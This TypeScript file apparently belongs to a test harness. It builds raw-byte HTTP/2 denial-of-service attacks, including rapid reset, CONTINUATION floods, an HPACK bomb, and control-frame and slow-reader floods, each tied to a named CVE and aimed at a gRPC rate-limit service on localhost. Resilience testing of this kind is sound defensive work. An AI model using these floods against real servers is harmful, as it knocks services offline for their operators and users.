// The known attacks on HTTP/2 servers, as bytes. Each is sent as fast as the server takes it, on new
// connections when the server closes one.
import { FLAG, FRAME, frame, grpcMessage, literalBlock, openingBytes, PREFACE } from "@weir/harness/http2/http2-frames";

/** One attack. */
export interface Attack {
  readonly name: string;
  /** Connections at a time. */
  readonly connections: number;
  /** Whether the attacker reads what comes back. */
  readonly reads: boolean;
  /** What every connection begins with. */
  readonly opening: Buffer;
  /**
   * The bytes that follow, `number` times: it counts from 0 on each connection. Undefined = the
   * connection is silent from then on.
   */
  next(number: number): Buffer | undefined;
}

/** Frame types that only attacks need (RFC 9113, section 6). */
const PRIORITY = 2;
const CONTINUATION = 9;
const UNKNOWN = 0xbb;

/** Error code CANCEL (RFC 9113, section 7). */
const CANCEL = Buffer.from([0, 0, 0, 8]);

/** Frames that are written in one piece. */
const BATCH = 256;

/** Highest number of a batch of calls: later stream identifiers would not fit. */
const BATCHES_MAX = Math.floor(2 ** 30 / BATCH) - 1;

/** Bytes of a DATA frame that every peer takes (RFC 9113, section 4.2). */
const FRAME_MAX_BYTES = 16_384;

const SHOULD_RATE_LIMIT = "/envoy.service.ratelimit.v3.RateLimitService/ShouldRateLimit";

/** A request of the domain "attacks", whose one entry is key "user", value "mallory". */
const MESSAGE = grpcMessage(
  Buffer.concat([Buffer.from("\n\x07attacks\x12\x11\n\x0f\n\x04user\x12\x07mallory", "latin1")]),
);

const BLOCK = requestBlock(SHOULD_RATE_LIMIT);

/** An opening whose streams have a window of 0: no answer with a message can be sent. */
const ZERO_WINDOW = Buffer.concat([PREFACE, frame(FRAME.SETTINGS, 0, 0, Buffer.from([0, 4, 0, 0, 0, 0]))]);

/** A header field as large as the table of the server, to be named again and again by one byte. */
const LARGE_FIELD = Buffer.concat([
  Buffer.from([0x40, 1]),
  Buffer.from("x"),
  Buffer.from([0x7f, ...integer(3900 - 127)]),
  Buffer.alloc(3900, "a"),
]);

/** The attacks, those of the CVEs named by them first. */
export const ATTACKS: readonly Attack[] = [
  // CVE-2023-44487: the calls begin and are reset before their answers.
  flood("rapid reset", (streamId) => [...call(streamId), frame(FRAME.RST_STREAM, 0, streamId, CANCEL)]),
  // CVE-2025-8671: the server is made to reset the streams itself, here by a window update of 0 bytes.
  flood("made you reset, by empty window updates", (streamId) => [
    frame(FRAME.HEADERS, FLAG.END_HEADERS, streamId, BLOCK),
    frame(FRAME.WINDOW_UPDATE, 0, streamId, Buffer.alloc(4)),
  ]),
  flood("made you reset, by DATA after the end of the stream", (streamId) => [
    ...call(streamId),
    frame(FRAME.DATA, FLAG.END_STREAM, streamId, MESSAGE),
  ]),
  flood("made you reset, by a wrong content-length", (streamId) => [
    frame(FRAME.HEADERS, FLAG.END_HEADERS, streamId, requestBlock(SHOULD_RATE_LIMIT, [["content-length", "1"]])),
    frame(FRAME.DATA, FLAG.END_STREAM, streamId, MESSAGE),
  ]),
  // CVE-2024-27316 and others: a header block without an end.
  repeat(
    "CONTINUATION flood",
    Buffer.concat([openingBytes(), frame(FRAME.HEADERS, 0, 1, BLOCK)]),
    many(frame(CONTINUATION, 0, 1, literalBlock([["x-filler", "a".repeat(100)]]))),
  ),
  repeat(
    "empty CONTINUATION flood",
    Buffer.concat([openingBytes(), frame(FRAME.HEADERS, 0, 1, BLOCK)]),
    many(frame(CONTINUATION, 0, 1)),
  ),
  // CVE-2016-6581: one byte names a field of 4 KiB, thousands of times in a block.
  flood("HPACK bomb", (streamId) => [
    frame(
      FRAME.HEADERS,
      FLAG.END_HEADERS | FLAG.END_STREAM,
      streamId,
      Buffer.concat([BLOCK, LARGE_FIELD, Buffer.alloc(4000, 0xbe)]),
    ),
  ]),
  flood("table size updates", (streamId) => [
    frame(FRAME.HEADERS, FLAG.END_HEADERS, streamId, Buffer.concat([Buffer.alloc(8000, 0x20), BLOCK])),
  ]),
  // CVE-2019-9512, 9515, 9517, 9518 and relatives: frames that cost the server more than the attacker.
  repeat("PING flood", openingBytes(), many(frame(FRAME.PING, 0, 0, Buffer.alloc(8)))),
  {
    ...repeat("PING flood, answers not read", openingBytes(), many(frame(FRAME.PING, 0, 0, Buffer.alloc(8)))),
    reads: false,
  },
  repeat("SETTINGS flood", openingBytes(), many(frame(FRAME.SETTINGS, 0, 0, Buffer.from([0, 4, 0, 1, 0, 0])))),
  {
    ...repeat("empty SETTINGS flood, answers not read", openingBytes(), many(frame(FRAME.SETTINGS, 0, 0))),
    reads: false,
  },
  repeat("PRIORITY flood", openingBytes(), many(frame(PRIORITY, 0, 1, Buffer.from([0, 0, 0, 3, 16])))),
  repeat(
    "WINDOW_UPDATE flood",
    openingBytes(65_535),
    many(frame(FRAME.WINDOW_UPDATE, 0, 0, Buffer.from([0, 0, 0, 1]))),
  ),
  repeat(
    "empty DATA flood",
    Buffer.concat([openingBytes(), frame(FRAME.HEADERS, FLAG.END_HEADERS, 1, BLOCK)]),
    many(frame(FRAME.DATA, 0, 1)),
  ),
  repeat("unknown frames", openingBytes(), many(frame(UNKNOWN, 0, 0, Buffer.alloc(16)))),
  // Memory that waits for the attacker.
  { ...flood("correct calls as fast as possible", call), connections: 2 },
  { ...flood("slow readers", call), connections: 50, reads: false },
  { ...flood("zero windows", call), connections: 10, opening: ZERO_WINDOW },
  { ...flood("refused calls of a slow reader", (streamId) => unknownCall(streamId)), connections: 10, reads: false },
  flood("calls that stay open", (streamId) => [frame(FRAME.HEADERS, FLAG.END_HEADERS, streamId, BLOCK)]),
  { ...partialMessages(), connections: 50 },
  silent("connections without a preface", Buffer.alloc(0), 500),
  silent("half a frame header", Buffer.concat([openingBytes(), Buffer.from([0, 0, 1])]), 500),
];

/** New calls, or parts of calls, one after the other. */
function flood(name: string, framesOf: (streamId: number) => readonly Buffer[]): Attack {
  return {
    name,
    connections: 4,
    reads: true,
    opening: openingBytes(),
    next: (number) => {
      if (number > BATCHES_MAX) return undefined;
      const first = number * BATCH;
      return Buffer.concat(Array.from({ length: BATCH }, (_, index) => framesOf(2 * (first + index) + 1)).flat());
    },
  };
}

/** The same bytes again and again. */
function repeat(name: string, opening: Buffer, bytes: Buffer): Attack {
  return { name, connections: 4, reads: true, opening, next: () => bytes };
}

/** Connections that begin and then say nothing. */
function silent(name: string, opening: Buffer, connections: number): Attack {
  return { name, connections, reads: true, opening, next: () => undefined };
}

/** Messages that announce 4 MiB, on as many streams as the windows allow, and never end. */
function partialMessages(): Attack {
  const announced = Buffer.from([0, 0, 0x3f, 0xff, 0xff]);
  return flood("messages without an end", (streamId) => [
    frame(FRAME.HEADERS, FLAG.END_HEADERS, streamId, BLOCK),
    frame(FRAME.DATA, 0, streamId, Buffer.concat([announced, Buffer.alloc(FRAME_MAX_BYTES - announced.length)])),
  ]);
}

function call(streamId: number): readonly Buffer[] {
  return [
    frame(FRAME.HEADERS, FLAG.END_HEADERS, streamId, BLOCK),
    frame(FRAME.DATA, FLAG.END_STREAM, streamId, MESSAGE),
  ];
}

/** A call of a method that does not exist, under a long name that the answer may repeat. */
function unknownCall(streamId: number): readonly Buffer[] {
  return [
    frame(FRAME.HEADERS, FLAG.END_HEADERS, streamId, requestBlock(`/${"x".repeat(100)}/y`)),
    frame(FRAME.DATA, FLAG.END_STREAM, streamId, MESSAGE),
  ];
}

function requestBlock(path: string, fields: readonly (readonly [string, string])[] = []): Buffer {
  const request = [
    [":path", path],
    [":authority", "localhost"],
    ["content-type", "application/grpc"],
    ["te", "trailers"],
  ] as const;
  // :method POST and :scheme http from the static table (RFC 7541, appendix A).
  return Buffer.concat([Buffer.from([0x83, 0x86]), literalBlock([...request, ...fields])]);
}

function many(bytes: Buffer): Buffer {
  return Buffer.concat(Array.from({ length: BATCH }, () => bytes));
}

/** The further bytes of an integer that did not fit the prefix (RFC 7541, section 5.1). */
function integer(value: number): readonly number[] {
  return value < 128 ? [value] : [(value % 128) + 128, ...integer(Math.floor(value / 128))];
}
